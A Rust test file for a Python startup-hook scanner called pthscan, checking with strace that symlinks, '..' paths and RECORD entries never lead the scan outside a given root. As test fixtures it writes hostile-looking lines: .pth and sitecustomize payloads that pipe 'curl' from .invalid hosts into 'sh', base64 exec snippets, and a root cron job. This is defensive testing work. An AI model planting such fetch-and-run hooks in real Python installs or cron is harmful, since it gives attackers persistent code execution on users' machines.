//! Proof of confinement: under `--root`, every path pthscan meets — a RECORD row, a `.pth`
//! path line, a symlink at any depth, a host place (`etc/cron.d`, `home`, `var/lib/dpkg`), a
//! PATH — resolves inside the root, as `openat2(RESOLVE_IN_ROOT)` does. A tree beside the root
//! stands for the examiner's own host; every escape in the evidence points at it, and under
//! `strace -f -y` no open, stat, readlink or directory listing reaches it, and nothing of it is
//! reported.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use crate::util::*;

/// In every file of the examiner's host: a scan that read one would report it.
const MARKER: &str = "EXAMINER_HOST_31337";

fn write(path: &Path, data: &[u8]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, data).unwrap();
}

/// The examiner's host: files a scan led out of the root would judge as the evidence's.
fn examiner_host(outside: &Path) {
    let payload = format!(
        "import base64, os; exec(base64.b64decode('cHJpbnQoMSk=')); os.system('curl http://{MARKER}.invalid | sh')\n"
    );
    write(&outside.join("secret.py"), payload.as_bytes());
    write(&outside.join("pkg/sitecustomize.py"), payload.as_bytes());
    write(
        &outside.join("pkg/hostile.pth"),
        format!("import os; os.system('{MARKER}')\n").as_bytes(),
    );
    write(
        &outside.join("cron.d/job"),
        format!("* * * * * root python3 -c \"import base64;exec(base64.b64decode('{MARKER}'))\"\n")
            .as_bytes(),
    );
    write(
        &outside.join("home/u/.bashrc"),
        format!("export PYTHONSTARTUP=/tmp/{MARKER}.py\n").as_bytes(),
    );
    // the examiner's dpkg lists, which would make the evidence's hook look package-owned
    write(
        &outside.join("dpkg/info/python3-evil.list"),
        b"/usr/lib/python3/dist-packages/unowned.pth\n",
    );
}

/// The evidence: a system site with a real hook, and every way out of the root.
fn evidence(root: &Path, outside: &Path) {
    let site = root.join("usr/lib/python3/dist-packages");
    write(
        &site.join("canary.pth"),
        b"import os; os.system('curl -s http://x.invalid | sh')\n",
    );
    write(&site.join("unowned.pth"), b"import _virtualenv\n");
    std::fs::create_dir_all(root.join("var/lib/dpkg/info")).unwrap();
    // a link in the middle of a path: to the host's absolute path, and past the root by `..`
    symlink(outside, site.join("esc")).unwrap();
    symlink("../../../../../../../../../../../../../..", site.join("up")).unwrap();
    let outside_rel = outside.strip_prefix("/").unwrap().display().to_string();
    write(
        &site.join("paths.pth"),
        format!("esc/pkg\nup/{outside_rel}/pkg\n{}/pkg\n", outside.display()).as_bytes(),
    );
    // a venv whose RECORD lists the host's files: absolute, past the root, through a link
    let venv = root.join("opt/venv");
    write(&venv.join("pyvenv.cfg"), b"version = 3.12.4\n");
    let vsite = venv.join("lib/python3.12/site-packages");
    write(&vsite.join("ok.py"), b"x = 1\n");
    symlink(outside, vsite.join("esc")).unwrap();
    let info = vsite.join("evil-1.0.dist-info");
    write(
        &info.join("METADATA"),
        b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n\n",
    );
    let up = "../".repeat(20);
    write(
        &info.join("RECORD"),
        format!(
            "{abs}/secret.py,sha256=AAAA,10\n{up}{outside_rel}/secret.py,sha256=AAAA,10\nesc/secret.py,sha256=AAAA,10\nesc/pkg/sitecustomize.py,,\nok.py,,\nevil-1.0.dist-info/RECORD,,\n",
            abs = outside.display()
        )
        .as_bytes(),
    );
    // host places that are links out of the evidence
    std::fs::create_dir_all(root.join("etc")).unwrap();
    symlink(outside.join("cron.d"), root.join("etc/cron.d")).unwrap();
    symlink(outside.join("home"), root.join("home")).unwrap();
    symlink(outside.join("dpkg"), root.join("var/lib/dpkg/info-host")).unwrap();
    // a PATH to give under --root that is a link to the host
    symlink(outside, root.join("given")).unwrap();
}

/// Every path an strace line names: quoted arguments (for `readlink`, only the link's own
/// path, not the target it read back) and the `<path>` strace `-y` prints for descriptors.
fn named_paths(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = line.chars().peekable();
    let mut quoted = 0;
    let readlink = line.contains("readlink");
    // a readlink that strace shows resumed on a line of its own: what follows is the target
    // read back (data, not a path looked up)
    if readlink && line.contains("resumed>") {
        return out;
    }
    while let Some(c) = chars.next() {
        let end = match c {
            '"' => '"',
            '<' => '>',
            _ => continue,
        };
        let mut s = String::new();
        while let Some(c) = chars.next() {
            if c == '\\' {
                s.extend(chars.next());
            } else if c == end {
                break;
            } else {
                s.push(c);
            }
        }
        if end == '"' {
            quoted += 1;
            if readlink && quoted > 1 {
                continue;
            }
        }
        out.push(s);
    }
    out
}

fn traced_scan(dir: &Path, args: &[&str]) -> (serde_json::Value, i32, String) {
    let log = dir.join(format!("strace-{}.log", args.len()));
    let out = std::process::Command::new("strace")
        .args(["-f", "-y", "-qq", "-e", "trace=%file,getdents64", "-o"])
        .arg(&log)
        .arg(env!("CARGO_BIN_EXE_pthscan"))
        .args(["--deep", "--format", "json"])
        .args(args)
        .output()
        .expect("strace (Debian package strace; .ci/run installs it)");
    let json =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", stderr(&out)));
    (json, code(&out), std::fs::read_to_string(&log).unwrap())
}

fn assert_confined(outside: &Path, json: &serde_json::Value, log: &str) {
    let outside = outside.display().to_string();
    for line in log.lines() {
        for path in named_paths(line) {
            assert!(
                !path.starts_with(&outside),
                "reached outside the root ({path}): {line}"
            );
        }
    }
    let text = json.to_string();
    assert!(
        !text.contains(MARKER),
        "reported the host's content: {json:#}"
    );
}

#[test]
fn under_root_nothing_outside_it_is_opened_listed_or_reported() {
    let dir = tempfile::tempdir().unwrap();
    let base: PathBuf = std::fs::canonicalize(dir.path()).unwrap();
    let outside = base.join("outside");
    let root = base.join("evidence");
    examiner_host(&outside);
    evidence(&root, &outside);
    let root_arg = root.display().to_string();

    // the host sweep of the evidence
    let (json, code, log) = traced_scan(&base, &["--root", &root_arg]);
    assert_confined(&outside, &json, &log);
    let findings = json["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(|f| f["rule"] == "PTH001"
            && f["location"]["path"]
                .as_str()
                .is_some_and(|p| p.ends_with("dist-packages/canary.pth"))),
        "the evidence's own hook is reported: {json:#}"
    );
    assert_eq!(code, 1, "{json:#}");

    // PATHs under --root: a link to the host is the evidence's path of that name, absent
    let (json, code, log) = traced_scan(
        &base,
        &[
            "--root",
            &root_arg,
            "/given",
            "/usr/lib/python3/dist-packages/esc/pkg",
            "/usr/lib/python3/dist-packages",
        ],
    );
    assert_confined(&outside, &json, &log);
    let diagnostics = json["diagnostics"].as_array().unwrap();
    for given in ["given", "esc/pkg"] {
        assert!(
            diagnostics.iter().any(|d| d["path"]
                .as_str()
                .is_some_and(|p| p.starts_with(&root_arg) && p.contains(given))),
            "{given} is named as missing inside the root: {diagnostics:#?}"
        );
    }
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "PTH001")
    );
    // what was asked for could not all be judged (the link to the host is absent inside the
    // root): said apart from the exit code, which the hook's finding makes 1
    assert_eq!(
        json["summary"]["incomplete"], true,
        "a given PATH is missing: {json:#}"
    );
    assert_eq!(code, 1, "{json:#}");
}

/// On the live host, a folder given is the root: a link or `..` that leaves it is refused
/// and named, never followed.
#[test]
fn a_folder_given_is_its_own_root() {
    let dir = tempfile::tempdir().unwrap();
    let base: PathBuf = std::fs::canonicalize(dir.path()).unwrap();
    let outside = base.join("outside");
    examiner_host(&outside);
    let venv = base.join("venv");
    let site = venv.join("lib/python3.12/site-packages");
    write(&venv.join("pyvenv.cfg"), b"version = 3.12.4\n");
    std::fs::create_dir_all(&site).unwrap();
    symlink(
        outside.join("pkg/sitecustomize.py"),
        site.join("sitecustomize.py"),
    )
    .unwrap();
    symlink(outside.join("pkg/hostile.pth"), site.join("link.pth")).unwrap();
    let (json, _, log) = traced_scan(&base, &[venv.to_str().unwrap()]);
    assert_confined(&outside, &json, &log);
    let diagnostics = json["diagnostics"].as_array().unwrap();
    assert!(
        diagnostics.iter().any(
            |d| d["path"].as_str().is_some_and(|p| p.ends_with("link.pth"))
                && d["message"]
                    .as_str()
                    .unwrap()
                    .contains("leads outside the scanned root")
        ),
        "{diagnostics:#?}"
    );
}
